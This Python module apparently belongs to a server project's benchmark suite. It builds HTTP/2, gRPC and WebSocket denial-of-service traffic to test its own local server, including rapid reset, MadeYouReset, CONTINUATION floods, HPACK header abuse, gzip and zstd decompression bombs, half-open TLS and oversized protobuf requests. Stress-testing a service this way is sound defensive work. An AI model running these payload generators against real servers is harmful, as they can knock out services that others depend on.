"""The attackers of `python -m benchmarks.attacks`: what they send, by the names of the table's rows."""

from __future__ import annotations

import dataclasses
import functools
import itertools
import secrets
import ssl
import struct
import time
import zlib
from collections.abc import Callable, Iterator
from typing import Any

import hpack
import numpy as np

from bridge.core.encoding.names import PROPERTY_REQUEST_URL
from bridge.core.encoding.tensors import pack_tensor
from bridge.core.transport.credentials import ClientCredentials, Token
from bridge.core.transport.frames import PREFACE, pack_frame
from bridge.core.transport.service import METHOD, SERVICE
from bridge.core.transport.websocket import PATH as WS_PATH
from bridge.core.transport.websocket import SUBPROTOCOL, token_subprotocol
from bridge.pb import bridge_pb2, properties_pb2, states_pb2
from bridge.pb import dm_env_rpc_pb2 as pb
from bridge.testing import Inspector

__all__ = ["ATTACKERS", "ATTACKS", "PATH", "PREFACE", "TOKEN", "WATCH_TOKEN", "Attack", "Pieces"]

PATH = f"/{SERVICE}/{METHOD}"
WATCH = "/grpc.health.v1.Health/Watch"
TOKEN, WATCH_TOKEN = "t" * 32, "w" * 32
ATTACKERS = 4
"""Connections that attack at a time, unless a row says otherwise."""
_MIB = 1 << 20


@functools.lru_cache
def block(path: str = PATH, *extra: tuple[str, str], huffman: bool = False) -> bytes:
    """Return a header block of a gRPC call that uses no table."""
    encoder = hpack.Encoder()
    encoder.header_table_size = 0
    fields = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "a"), ("te", "trailers")]
    return bytes(encoder.encode([*fields, ("content-type", "application/grpc"), *extra], huffman=huffman))


def open_stream(number: int, path: str = PATH, *extra: tuple[str, str]) -> bytes:
    """Return the HEADERS frame of a call."""
    return pack_frame(1, 4, number, block(path, *extra))


AUTHORIZED = ("authorization", f"Bearer {TOKEN}")
WATCHING = ("authorization", f"Bearer {WATCH_TOKEN}")
HELLO = PREFACE + pack_frame(4, 0, 0)
Pieces = Iterator[bytes]


def forever(piece: bytes, first: bytes = b"") -> Pieces:
    """Repeat one piece."""
    yield HELLO + first
    piece *= max(1, 16384 // len(piece))
    while True:
        yield piece


def streams(make: Callable[[int], bytes], count: int = 100) -> Pieces:
    """Open one stream after the other."""
    yield HELLO
    number = 1
    while number < 1 << 30:
        yield b"".join(make(number + 2 * index) for index in range(count))
        number += 2 * count


def huffman_headers() -> Pieces:
    """Send header blocks that take long to decompress."""
    head = block(PATH, ("x", "\x01" * 3000), huffman=True)  # 23 bits each
    return streams(lambda number: pack_frame(1, 4, number, head), 2)


def table_resizes() -> Pieces:
    """Change the size of the header table again and again."""
    head = b"\x20\x3f\xe1\x1f" * 1000 + block()
    return streams(lambda number: pack_frame(1, 4, number, head), 4)


def window_flips() -> Pieces:
    """Change the initial window while many streams are open."""
    opened = b"".join(open_stream(2 * index + 1, WATCH) for index in range(380))
    flip = b"".join(pack_frame(4, 0, 0, struct.pack(">HI", 4, size)) for size in (0, 65535))
    return forever(flip, opened)


def announced(path: str = PATH, size: int = 512 * _MIB) -> Pieces:
    """Announce large messages, and send little of them."""
    extra = () if path.startswith("/grpc.") else (AUTHORIZED,)
    body = b"\0" + struct.pack(">I", size) + bytes(200)
    yield HELLO + b"".join(open_stream(2 * n + 1, path, *extra) + pack_frame(0, 0, 2 * n + 1, body) for n in range(4))
    while True:
        yield pack_frame(6, 0, 0, bytes(8))
        time.sleep(0.5)


@functools.lru_cache
def gzip_bomb() -> bytes:
    """Return 500 MiB of zeros, compressed to 0.5 MB."""
    packer, piece = zlib.compressobj(9), bytes(_MIB)
    return b"".join([packer.compress(piece) for _ in range(500)] + [packer.flush()])


def zstd_bomb() -> bytes:
    """Return 500 MiB of zeros as 16 kB of zstd: blocks of 128 KiB (RFC 8878, section 3.1.1.2) of one byte each."""
    size, repeated, last = 1 << 17, 1 << 1, 1
    blocks = [(size << 3 | repeated | (last if number == 3999 else 0)) for number in range(4000)]
    return b"\x28\xb5\x2f\xfd\x00\x68" + b"".join(block.to_bytes(3, "little") + b"\0" for block in blocks)


def bombs(encoding: str, data: bytes) -> Pieces:
    """Send compressed messages that are a thousand times larger, each on a stream of its own."""
    body = b"\1" + struct.pack(">I", len(data)) + data
    yield HELLO
    for number in itertools.count(1, 2):
        yield open_stream(number, PATH, AUTHORIZED, ("grpc-encoding", encoding))
        for start in range(0, len(body), 16000):
            yield pack_frame(0, 0, number, body[start : start + 16000])


def tiny_requests() -> Pieces:
    """Send empty requests behind a window of zero."""
    yield PREFACE + pack_frame(4, 0, 0, struct.pack(">HI", 4, 0)) + open_stream(1, PATH, AUTHORIZED)
    while True:
        yield pack_frame(0, 0, 1, bytes(5) * 3000)


def continuation() -> Pieces:
    """Send a header block without end."""
    yield HELLO + pack_frame(1, 0, 1, b"")
    while True:
        yield pack_frame(9, 0, 1, bytes(15_000))


def made_you_reset() -> Pieces:
    """Have the server reset one stream after the other."""
    return streams(lambda number: open_stream(number, WATCH) + pack_frame(8, 0, number, bytes(4)))


def watches(number: int = 40) -> Pieces:
    """Send many empty requests of a health call in each of few large DATA frames, a few at a time."""
    window = pack_frame(4, 0, 0, struct.pack(">HI", 4, (1 << 31) - 1)) + pack_frame(8, 0, 0, struct.pack(">I", 1 << 30))
    yield HELLO + window
    for stream in itertools.count(1, 2):
        yield open_stream(stream, WATCH)
        yield pack_frame(0, 0, stream, bytes(_MIB))[:9]
        yield from itertools.repeat(bytes(5 * number), _MIB // (5 * number))
        yield bytes(_MIB % (5 * number))


EMPTY = pack_frame(0, 0, 1, bytes(5))
"""An empty request."""


def beside_requests(frame: bytes) -> Pieces:
    """Send an empty request with each 4 KiB of other frames."""
    return forever(frame * (4096 // len(frame)) + EMPTY, open_stream(1, PATH, AUTHORIZED))


def websocket(first: bytes, piece: bytes) -> Pieces:
    """Send WebSocket frames with the token."""
    names = ", ".join((SUBPROTOCOL, token_subprotocol(TOKEN)))
    head = f"GET {WS_PATH} HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    head += "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
    yield f"{head}Sec-WebSocket-Protocol: {names}\r\n\r\n".encode() + first
    piece *= max(1, 16384 // len(piece))
    while True:
        yield piece


def masked(opcode: int, payload: bytes = b"") -> bytes:
    """Return a client's frame of WebSocket, of at most 125 bytes."""
    return bytes((opcode, 0x80 | len(payload))) + bytes(4) + payload


BEGUN = b"\x02\xff" + (70_000).to_bytes(8, "big") + bytes(4) + bytes(70_000)
"""The first fragment of a large message of WebSocket."""


@functools.lru_cache
def churning_headers() -> bytes:
    """Return a header block that fills the table of the compression (RFC 7541, section 6.2.1) three times over."""
    return (b"\x40\x01x\x01y" * 350) + block()


def trailers() -> Pieces:
    """End one call after the other by large trailers."""
    encoder = hpack.Encoder()
    encoder.header_table_size = 0
    last = bytes(encoder.encode([("x", "\x01" * 3000)], huffman=True))
    return streams(lambda number: open_stream(number, PATH, AUTHORIZED) + pack_frame(1, 5, number, last), 4)


# With requests


def message(number: int, **payload: Any) -> bytes:
    """Return a DATA frame with a request of dm_env_rpc."""
    data = pb.EnvironmentRequest(**payload).SerializeToString()
    return pack_frame(0, 0, number, b"\0" + struct.pack(">I", len(data)) + data)


WATCHES = {"role": pack_tensor("spectator"), "wait": pack_tensor("now")}
PICTURES = {"role": pack_tensor("spectator"), "frame": pack_tensor("png")}


def viewers() -> Pieces:
    """Watch the default world, and step without end."""
    step = message(1, step=pb.StepRequest())
    return forever(step, open_stream(1, PATH, WATCHING) + message(1, join_world=pb.JoinWorldRequest(settings=WATCHES)))


def spectators() -> Pieces:
    """Watch the default world by 300 streams of one connection."""
    join = pb.JoinWorldRequest(settings=WATCHES)
    yield HELLO
    for number in range(1, 601, 2):
        yield open_stream(number, PATH, WATCHING) + message(number, join_world=join)
    yield from pings()


def pings() -> Pieces:
    """Stay, and do little."""
    while True:
        yield pack_frame(6, 0, 0, bytes(8))
        time.sleep(0.5)


def abandoned() -> Pieces:
    """Make 64 worlds, and hang up once they are made."""
    yield HELLO + open_stream(1, PATH, AUTHORIZED) + message(1, create_world=pb.CreateWorldRequest()) * 64
    time.sleep(0.5)


def find_picture(port: int) -> int:
    """Return the UID that spectators know pictures by."""
    credentials = ClientCredentials(token=Token(WATCH_TOKEN))
    with Inspector(f"grpc://127.0.0.1:{port}", 30.0, credentials) as inspector:
        specs = inspector.ask("join_world", pb.JoinWorldRequest(settings=PICTURES)).specs
    return next(uid for uid, spec in specs.observations.items() if spec.name == "frame")


def pictures(uid: int) -> Pieces:
    """Ask for pictures on 60 streams, and take none."""
    join = pb.JoinWorldRequest(settings=PICTURES)
    step = pb.StepRequest(requested_observations=[uid])
    yield PREFACE + pack_frame(4, 0, 0, struct.pack(">HI", 4, 0))
    for number in range(1, 121, 2):
        yield open_stream(number, PATH, WATCHING) + message(number, join_world=join) + message(number, step=step) * 3
    yield from pings()


def properties() -> Pieces:
    """Ask for the server's properties without end, and for the worlds among them."""
    asked, listed = properties_pb2.PropertyRequest(), properties_pb2.PropertyRequest()
    asked.read_property.key, listed.list_property.key = "server.web", ""
    request = pb.EnvironmentRequest().extension
    request.type_url = PROPERTY_REQUEST_URL
    piece = b""
    for each in (asked, listed):
        request.value = each.SerializeToString()
        piece += message(1, extension=request)
    return forever(piece, open_stream(1, PATH, AUTHORIZED))


@functools.lru_cache
def million_keys() -> bytes:
    """Return a Reset whose options have 10⁶ keys."""
    value = bridge_pb2.Value()
    keys = bridge_pb2.Value.Dict(keys=[str(number) for number in range(10**6)])
    value.dict.ParseFromString(keys.SerializeToString() + b"\x12\x02\x18\0" * 10**6)  # and as many zeros
    return _reset_with(value)


@functools.lru_cache
def nested_values() -> bytes:
    """Return a Reset whose options have 3,000 lists, each nested in 30 others."""
    value = bridge_pb2.Value()
    for _ in range(30):
        outer = bridge_pb2.Value()
        outer.list.items.append(value)
        value = outer
    many = bridge_pb2.Value()
    many.dict.keys.append("nested")
    many.dict.values.add().list.items.extend([value] * 3000)
    return _reset_with(many)


def _reset_with(options: bridge_pb2.Value) -> bytes:
    tensor = pack_tensor(np.frombuffer(options.SerializeToString(), np.uint8))
    return bytes(pb.EnvironmentRequest(reset=pb.ResetRequest(settings={"options": tensor})).SerializeToString())


def _of_states(request: states_pb2.StatesRequest) -> bytes:
    wrapped = bridge_pb2.PlacingRequest(request=request.SerializeToString())
    sent = pb.EnvironmentRequest().extension
    sent.type_url = "type.googleapis.com/gymnasium_bridge.StatesRequest"
    sent.value = wrapped.SerializeToString()
    return bytes(pb.EnvironmentRequest(extension=sent).SerializeToString())


def save() -> bytes:
    """Return a request that saves the state of the environment."""
    return _of_states(states_pb2.StatesRequest(save=states_pb2.SaveStates(lanes=[0])))


def guess() -> bytes:
    """Return a request that restores a state by an identifier that nobody has; another one each time."""
    branch = states_pb2.RestoreStates.Branch(state=f"{secrets.token_hex(8)}.{secrets.token_urlsafe(24)}", lane=0)
    return _of_states(states_pb2.StatesRequest(restore=states_pb2.RestoreStates(branches=[branch])))


@functools.lru_cache
def long_guess() -> bytes:
    """Return a request of 4 MB that restores 4,000 states by identifiers of 1 kB."""
    branches = [states_pb2.RestoreStates.Branch(state=f"{lane:01000}", lane=lane) for lane in range(4000)]
    return _of_states(states_pb2.StatesRequest(restore=states_pb2.RestoreStates(branches=branches)))


@functools.lru_cache
def client_hello() -> bytes:
    """Return the first message of a TLS handshake."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        context.wrap_bio(incoming, outgoing, server_hostname="localhost").do_handshake()
    except ssl.SSLWantReadError:
        return outgoing.read()
    raise RuntimeError("the handshake was complete without a server")


# All of them


@dataclasses.dataclass(frozen=True)
class Attack:
    """One row: what each attacker sends, over connections that follow each other."""

    pieces: Callable[..., Pieces]
    """Gives the bytes of one connection. With `learn`, it is called with what that has returned."""
    attackers: int = ATTACKERS
    """Connections at a time; with `held`, each attacker has that many."""
    held: int = 0
    """Connections that each attacker keeps open, once each has sent one piece; 0: it sends over one until the end."""
    begins: bool = False
    """True if it resets that world first."""
    request: Callable[[], bytes] | None = None
    """A request for a world of the attacker's own, sent again and again once it was answered; None: `pieces` is it."""
    learn: Callable[[int], Any] | None = None
    """Asks the server at a port for what `pieces` needs."""
    websocket: bool = False
    """True if it speaks WebSocket, which grpcio does not."""
    tls: bool = False
    """True if the server speaks TLS."""
    default_world: bool = False
    """True if the honest client acts in the default world, which the attackers watch."""
    large: bool = False
    """True if its messages are large, and allowed: what they take of memory is no fault."""
    early: bool = False
    """True if the honest client connects before the attackers do, and a newcomer after them."""


def _none() -> Pieces:
    return iter(())


ATTACKS: dict[str, Attack] = {
    "announced 512 MiB x4": Attack(announced),
    "announced 511 MiB on health": Attack(lambda: announced("/grpc.health.v1.Health/Check", 511 * _MIB)),
    "Huffman headers": Attack(huffman_headers),
    "SETTINGS window flips": Attack(window_flips),
    "calls without a token": Attack(lambda: streams(open_stream)),
    "MadeYouReset": Attack(made_you_reset),
    "rapid reset": Attack(lambda: streams(lambda n: open_stream(n) + pack_frame(3, 0, n, struct.pack(">I", 8)))),
    "SETTINGS": Attack(lambda: forever(pack_frame(4, 0, 0))),
    "PING": Attack(lambda: forever(pack_frame(6, 0, 0, bytes(8)))),
    "empty DATA": Attack(lambda: forever(pack_frame(0, 0, 1), open_stream(1, WATCH))),
    "PRIORITY": Attack(lambda: forever(pack_frame(2, 0, 1, bytes(5)), open_stream(1, WATCH))),
    "unknown frames": Attack(lambda: forever(pack_frame(99, 0, 0))),
    "table resizes": Attack(table_resizes),
    "table churn": Attack(lambda: streams(lambda number: pack_frame(1, 4, number, churning_headers()), 8)),
    "CONTINUATION": Attack(continuation),
    "trailers": Attack(trailers),
    "gzip bomb 500 MiB": Attack(lambda: bombs("gzip", gzip_bomb())),
    "zstd bomb 500 MiB": Attack(lambda: bombs("zstd", zstd_bomb())),
    "tiny requests, zero window": Attack(tiny_requests),
    "empty requests in large frames, health": Attack(watches),
    "tiny messages to Watch": Attack(lambda: forever(pack_frame(0, 0, 1, bytes(1 << 20)), open_stream(1, WATCH))),
    "connect flood": Attack(lambda: iter([HELLO])),
    "2,000 connections of one byte": Attack(lambda: iter([b"P"]), held=500),
    "half-open TLS": Attack(lambda: iter([client_hello()]), held=500, tls=True),
    "PING beside requests": Attack(lambda: beside_requests(pack_frame(6, 0, 0, bytes(8)))),
    "SETTINGS beside requests": Attack(lambda: beside_requests(pack_frame(4, 0, 0))),
    "padded DATA beside requests": Attack(lambda: beside_requests(pack_frame(0, 8, 1, b"\0"))),
    "WebSocket pings beside requests": Attack(
        lambda: websocket(b"", masked(0x89) * 680 + masked(0x82)), websocket=True
    ),
    "WebSocket empty fragments": Attack(lambda: websocket(BEGUN, masked(0x00)), websocket=True),
    "300 spectator streams": Attack(spectators, attackers=1),
    "four viewers that step": Attack(viewers, default_world=True),
    "pictures behind a zero window": Attack(pictures, learn=find_picture, default_world=True),
    "256 abandoned worlds": Attack(abandoned, early=True),
    "properties without end": Attack(properties),
    "options with a million keys": Attack(_none, request=million_keys, large=True),
    "nested options": Attack(_none, request=nested_values),
    "states saved without end": Attack(_none, request=save, begins=True),
    "states guessed": Attack(_none, request=guess, begins=True),
    "4,000 long guesses of states": Attack(_none, request=long_guess, begins=True, large=True),
}
